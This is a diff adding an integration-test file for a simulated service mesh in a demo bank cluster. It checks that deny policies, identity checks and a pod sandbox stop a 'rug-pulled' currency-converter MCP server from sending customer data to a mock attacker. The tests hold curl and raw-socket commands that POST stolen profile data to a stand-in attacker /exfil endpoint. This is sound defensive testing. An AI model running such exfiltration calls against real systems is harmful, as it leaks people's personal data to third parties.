@@ -1,0 +1,276 @@
+// The mesh end to end: real pods, real capture, real HBONE over mTLS, Istio policy at the destination.
+import { readFileSync } from 'node:fs';
+import { connect } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readManifestDocuments } from '../src/control-plane/cluster.ts';
+import { ManifestError } from '../src/manifests/errors.ts';
+import { MESH_POLICIES } from '../src/cli/commands/policies.ts';
+import { encodePreamble } from '../src/mesh/capture/protocol.ts';
+import { seriesValue, startTestCluster, type TestCluster } from './support/cluster.ts';
+import { callTool, connectClient } from './support/workloads.ts';
+
+const CONVERTER = 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter';
+const EXFIL = 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil';
+const DENY_POLICY = readManifestDocuments(join(MESH_POLICIES, 'deny-bank-to-attacker.yaml'), []);
+
+describe('the mesh', () => {
+  let t: TestCluster;
+  beforeAll(async () => {
+    t = await startTestCluster();
+  }, 120_000);
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  const exfilFromConverter = () => t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-X', 'POST', '-d', '{"stolen_at_tool":"probe","stolen_data":{"name":"Alex Carter"}}', EXFIL]);
+
+  it('gives every pod its SPIFFE identity and the digest its tag points at', () => {
+    const pods = t.cluster.engine.allPods();
+    expect(pods.map((p) => p.spiffeId).sort()).toEqual([
+      'spiffe://cluster.local/ns/external-attacker/sa/mock-attacker',
+      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/account-mcp',
+      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/ticket-mcp',
+      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/transaction-mcp',
+      CONVERTER,
+    ]);
+    for (const pod of pods) {
+      expect(pod.ready).toBe(true);
+      expect(pod.imageDigest).toBe(t.cluster.images.resolve(pod.image));
+    }
+  });
+
+  it('lets the converter reach the attacker while no policy applies', async () => {
+    const before = (await t.attackerLoot()).count;
+    const result = await exfilFromConverter();
+    expect(result.code).toBe(0);
+    expect(JSON.parse(result.stdout)).toMatchObject({ stored: true });
+    expect((await t.attackerLoot()).count).toBe(before + 1);
+    const metrics = await t.metricsText();
+    expect(seriesValue(metrics, 'istio_tcp_connections_opened_total', { reporter: 'destination', source_principal: CONVERTER, destination_workload: 'mock-attacker' })).toBeGreaterThan(0);
+  });
+
+  it('refuses the converter at the attacker once deny-bank-to-attacker applies, and leaves the evidence', async () => {
+    await t.cluster.engine.apply(DENY_POLICY);
+    const before = (await t.attackerLoot()).count;
+    const result = await exfilFromConverter();
+    expect(result.code).toBe(56);
+    expect(result.stderr).toContain('Connection reset by peer');
+    expect((await t.attackerLoot()).count).toBe(before);
+
+    const metrics = await t.metricsText();
+    expect(
+      seriesValue(metrics, 'istio_tcp_connections_failed_total', {
+        reporter: 'destination',
+        response_flags: 'DENY',
+        source_principal: CONVERTER,
+        destination_workload_namespace: 'external-attacker',
+      }),
+    ).toBeGreaterThanOrEqual(1);
+    expect(seriesValue(metrics, 'istio_tcp_connections_failed_total', { reporter: 'source', response_flags: 'CONNECT', source_principal: CONVERTER })).toBeGreaterThanOrEqual(1);
+    const denial = t
+      .ztunnelLog()
+      .split('\n')
+      .filter((line) => line.includes('"direction":"inbound"') && line.includes('policy rejection'))
+      .map((line) => JSON.parse(line) as Record<string, string>)
+      .at(-1)!;
+    expect(denial).toMatchObject({
+      msg: 'connection complete',
+      'src.identity': CONVERTER,
+      'dst.namespace': 'external-attacker',
+      error: 'connection closed due to policy rejection: explicitly denied by: external-attacker/deny-bank-to-attacker',
+    });
+  });
+
+  it('still refuses a new converter pod with a new address: the deny is on identity', async () => {
+    const [old] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
+    await t.cluster.engine.deletePods('trustusbank-bank-vendors', 'currency-converter');
+    const [replacement] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
+    expect(replacement!.name).not.toBe(old!.name);
+    expect(replacement!.ip).not.toBe(old!.ip);
+    expect(replacement!.spiffeId).toBe(CONVERTER);
+    const before = (await t.attackerLoot()).count;
+    expect((await exfilFromConverter()).code).toBe(56);
+    expect((await t.attackerLoot()).count).toBe(before);
+  });
+
+  it('keeps the traffic the policies allow flowing', async () => {
+    const toBank = await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
+    expect(toBank.code).toBe(0);
+    expect(JSON.parse(toBank.stdout)).toMatchObject({ status: 'ok', workload: 'account-mcp' });
+    // The attacker's own namespace is not a bank namespace: it may still reach itself.
+    const inside = await t.curlFrom('external-attacker', 'mock-attacker', ['-s', 'http://mock-attacker:8080/healthz']);
+    expect(inside.code).toBe(0);
+  });
+
+  it('enforces default-deny with allow-lists when all mesh policies are on, and lifts them when off', async () => {
+    await t.cluster.engine.apply(readManifestDocuments(MESH_POLICIES, []));
+    const denied = await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
+    expect(denied.code).toBe(56);
+    expect(t.ztunnelLog()).toContain('allow policies exist, but none allowed');
+    await t.cluster.engine.delete(readManifestDocuments(MESH_POLICIES, []));
+    expect((await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz'])).code).toBe(0);
+  });
+
+  it('drops a captured connection that presents an unknown pod token, before it reaches anyone', async () => {
+    await t.cluster.engine.delete(DENY_POLICY);
+    const before = (await t.attackerLoot()).count;
+    const capture = t.cluster.engine.captureEndpoint();
+    const outcome = await new Promise<{ bytes: number; error?: string }>((resolve) => {
+      const socket = connect(capture.port, capture.host, () => {
+        socket.write(encodePreamble('forged-token-of-some-other-pod', 'mock-attacker.external-attacker', 8080));
+        socket.write('POST /exfil HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}');
+      });
+      let bytes = 0;
+      socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
+      socket.on('error', (error: NodeJS.ErrnoException) => resolve({ bytes, error: error.code }));
+      socket.on('close', () => resolve({ bytes }));
+    });
+    expect(outcome.bytes).toBe(0);
+    expect((await t.attackerLoot()).count).toBe(before);
+  });
+
+  it('takes the caller from its certificate, never from what it claims in headers', async () => {
+    await t.cluster.engine.apply(DENY_POLICY);
+    const attacker = t.cluster.engine.podsOf('external-attacker', 'mock-attacker')[0]!;
+    const bank = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'account-mcp')[0]!;
+    const outsider = t.cluster.engine.podsOf('external-attacker', 'mock-attacker')[0]!;
+    // The converter's certificate with a `forwarded` header naming a pod outside the bank: still denied.
+    const decision = t.cluster.ztunnel.decideInbound(CONVERTER, `${attacker.ip}:8080`, { forwarded: `for=${outsider.ip}` });
+    expect(decision).toMatchObject({ allow: false, status: 401 });
+    // And a header naming a bank pod cannot make an outsider's certificate look like the bank either.
+    const allowed = t.cluster.ztunnel.decideInbound(outsider.spiffeId, `${attacker.ip}:8080`, { forwarded: `for=${bank.ip}` });
+    expect(allowed.allow).toBe(true);
+    if (allowed.allow) expect(allowed.parties.source.spiffeId).toBe(outsider.spiffeId);
+  });
+
+  it('refuses a bad manifest whole, naming the file, the document and the field', async () => {
+    const before = t.cluster.engine.list().map((l) => l.resource);
+    const podsBefore = t.cluster.engine.allPods().map((p) => p.name);
+    const text = [
+      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: brand-new\n',
+      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: broken\n  namespace: brand-new\nspec:\n  selector:\n    matchLabels: { app: broken }\n  template:\n    metadata:\n      labels: { app: broken }\n    spec:\n      containers:\n        - name: broken\n          image: trustusbank/account-mcp:1.0.0\n          imagePullPolicy: Always\n',
+    ].join('---\n');
+    const attempt = t.cluster.engine.apply([{ file: 'bad.yaml', text }]);
+    await expect(attempt).rejects.toBeInstanceOf(ManifestError);
+    await expect(attempt).rejects.toThrow(/bad\.yaml: document 1 \(Deployment brand-new\/broken\): spec\.template\.spec\.containers\[0\]\.imagePullPolicy/);
+    expect(t.cluster.engine.list().map((l) => l.resource)).toEqual(before);
+    expect(t.cluster.engine.allPods().map((p) => p.name)).toEqual(podsBefore);
+  });
+});
+
+describe('pod lifecycle', () => {
+  let t: TestCluster;
+  beforeAll(async () => {
+    t = await startTestCluster();
+  }, 120_000);
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  it('restarts a crashed pod with the same identity and counts the restart', async () => {
+    const [pod] = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'ticket-mcp');
+    const firstPid = pod!.pid!;
+    const ready = new Promise<void>((resolve) => {
+      const off = t.cluster.engine.onChange(() => {
+        if (pod!.ready && pod!.pid !== firstPid) {
+          off();
+          resolve();
+        }
+      });
+    });
+    process.kill(firstPid, 'SIGKILL');
+    await ready;
+    expect(pod!.restarts).toBe(1);
+    expect(pod!.lastExit).toBe('killed by SIGKILL');
+    expect(pod!.spiffeId).toBe('spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/ticket-mcp');
+  });
+
+  it('rolls a Deployment out when the digest behind its tag changes, without touching the manifest', async () => {
+    const manifestBefore = t.cluster.engine.list('Deployment').find((l) => l.resource.metadata.name === 'currency-converter')!.resource;
+    const [old] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
+    const rugpull = t.cluster.builds.find((b) => b.image === 'acme-fx/currency-converter:1.0.0' && b.variant === 'rugpull')!;
+    expect(rugpull.digest).not.toBe(old!.imageDigest);
+    t.cluster.images.tag('acme-fx/currency-converter:1.0.0', rugpull.digest);
+    await t.cluster.engine.reconcile();
+    await t.cluster.engine.waitReady(30_000);
+    // The old pod goes once the new one is ready (readiness drives further reconcile passes).
+    const deadline = Date.now() + 15_000;
+    while (t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter').length > 1 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+    const pods = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
+    expect(pods).toHaveLength(1);
+    expect(pods[0]!.imageDigest).toBe(rugpull.digest);
+    expect(pods[0]!.image).toBe('acme-fx/currency-converter:1.0.0');
+    expect(t.cluster.engine.list('Deployment').find((l) => l.resource.metadata.name === 'currency-converter')!.resource).toEqual(manifestBefore);
+  });
+
+  it('carries the rug-pulled converter’s exfiltration through the mesh, and the deny stops it with the same answer', async () => {
+    const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter')[0]!;
+    const client = await connectClient(`http://127.0.0.1:${pod.hostPorts.get(8080)}`, '2026-07-28');
+    const profile = { account_id: '12345', name: 'Alex Carter', ni_number: 'QQ 12 34 56 C' };
+    const convert = () => callTool(client, 'convert_currency', { amount: 4287.55, from_ccy: 'GBP', to_ccy: 'USD', customer_profile: profile });
+    try {
+      const before = (await t.attackerLoot()).count;
+      const stolen = await convert();
+      expect(stolen.value).toMatchObject({ converted: 5445.19 });
+      expect((await t.attackerLoot()).count).toBe(before + 1);
+
+      await t.cluster.engine.apply(DENY_POLICY);
+      const blocked = await convert();
+      expect(blocked.value).toEqual(stolen.value);
+      expect((await t.attackerLoot()).count).toBe(before + 1);
+      const podLog = readFileSync(pod.template.launch.logFile, 'utf8');
+      expect(podLog).toContain('"msg":"exfil sent"');
+      // Refused at connect (ECONNRESET), or its kept-alive connection closed by the policy change.
+      expect(podLog).toMatch(/"msg":"exfil blocked".*(ECONNRESET|UND_ERR_SOCKET)/);
+    } finally {
+      await client.close();
+    }
+  });
+});
+
+describe('the pod sandbox', () => {
+  let t: TestCluster;
+  beforeAll(async () => {
+    t = await startTestCluster();
+    const digest = await t.cluster.images.build(join(import.meta.dirname, 'fixtures', 'escape-pod.ts'));
+    t.cluster.images.tag('trustusbank/escape-test:1.0.0', digest);
+    await t.cluster.engine.apply([
+      {
+        file: 'escape.yaml',
+        text: `apiVersion: apps/v1
+kind: Deployment
+metadata: { name: escape-test, namespace: trustusbank-bank-vendors }
+spec:
+  selector: { matchLabels: { app: escape-test } }
+  template:
+    metadata: { labels: { app: escape-test } }
+    spec:
+      containers:
+        - name: escape-test
+          image: trustusbank/escape-test:1.0.0
+          ports: [{ containerPort: 8080 }]
+`,
+      },
+    ]);
+    await t.cluster.engine.waitReady(30_000);
+  }, 120_000);
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  it('keeps a pod from spawning processes, reading other volumes, opening local sockets or raw bindings', async () => {
+    const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'escape-test')[0]!;
+    const otherVolume = join(t.dataDir, 'volumes', 'trustusbank-bank-mcp', 'account-mcp', 'bank', 'accounts.sqlite');
+    const adminSocket = join(t.dataDir, 'run', 'engine.sock');
+    const url = `http://127.0.0.1:${pod.hostPorts.get(8080)}/attempts?read=${encodeURIComponent(otherVolume)}&socket=${encodeURIComponent(adminSocket)}`;
+    const attempts = (await (await fetch(url)).json()) as Record<string, string>;
+    expect(attempts).toEqual({
+      spawn: 'blocked: ERR_ACCESS_DENIED',
+      readOtherVolume: 'blocked: ERR_ACCESS_DENIED',
+      binding: 'blocked: ERR_ACCESS_DENIED',
+      worker: 'blocked: ERR_ACCESS_DENIED',
+      unixSocket: 'blocked: EACCES',
+    });
+  });
+});
